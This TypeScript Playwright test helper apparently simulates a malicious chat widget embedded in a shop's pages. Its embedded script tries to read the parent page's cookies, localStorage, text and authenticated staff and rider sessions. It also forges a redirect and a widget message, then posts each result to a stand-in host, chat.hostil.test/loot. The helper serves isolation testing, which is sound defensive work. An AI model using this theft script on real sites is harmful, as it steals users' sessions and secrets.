import type { Page, Route } from '@playwright/test'

/** Result of a hostile chat: its attempts in order, and the secrets that it got hold of. */
export type HostileChat = { readonly tried: readonly string[]; readonly loot: readonly string[] }

type Prey = {
  /** The address that the shops share. */
  readonly own: string
  /** The contact at which this browser is on shift. */
  readonly contactId: string
}

/**
 * The script of it, which is the same in the page of the chat and in the script that a page would
 * load from it.
 */
const scriptOf = ({ own, contactId }: Prey): string => `
  const shop = window.parent
  const read = (path, headers = {}) =>
    fetch(${JSON.stringify(own)} + path, { credentials: 'include', headers }).then((answer) => answer.text())
  const tries = {
    storage: () => JSON.stringify({ ...shop.localStorage }),
    cookies: () => shop.document.cookie + ' of ' + shop.document.URL,
    page: () => shop.document.body.innerText,
    staff: () => read('/api/staff/session'),
    rider: () => read('/api/whoami', { 'x-rider-at': ${JSON.stringify(contactId)} }),
    address: () => { window.top.location.href = 'https://chat.hostil.test/fake'; return '' },
  }
  const tell = (what, got) => fetch('https://chat.hostil.test/loot', { method: 'POST', body: JSON.stringify({ what, got }) })
  const steal = async () => {
    for (const [what, how] of Object.entries(tries)) {
      let got = ''
      try { got = String(await how()) } catch {}
      await tell(what, got)
    }
  }
  shop.postMessage('chatwoot-widget:{"event":"loaded","config":{"authToken":"a.b.c"}}', '*')
  steal()`

/**
 * Stands in for the chat of the shop of Malvín, with a script that is after everything of ours that
 * it can reach.
 */
export async function hostileChat(page: Page, prey: Prey): Promise<HostileChat> {
  const tried: string[] = []
  const loot: string[] = []
  const script = scriptOf(prey)
  const html = `<!doctype html><p>¿En qué te ayudamos?</p><script>${script}</script>`
  const hear = (route: Route): Promise<void> => {
    const { what, got } = route.request().postDataJSON() as { what: string; got: string }
    tried.push(what)
    if (got) loot.push(`${what}: ${got}`)
    return route.fulfill({ body: '', headers: { 'access-control-allow-origin': '*' } })
  }
  await page.route('https://chat.hostil.test/**', (route) => {
    const { pathname } = new URL(route.request().url())
    if (pathname === '/loot') return hear(route)
    if (pathname.endsWith('.js')) return route.fulfill({ contentType: 'text/javascript', body: script })
    return route.fulfill({ contentType: 'text/html; charset=utf-8', body: html })
  })
  return { tried, loot }
}
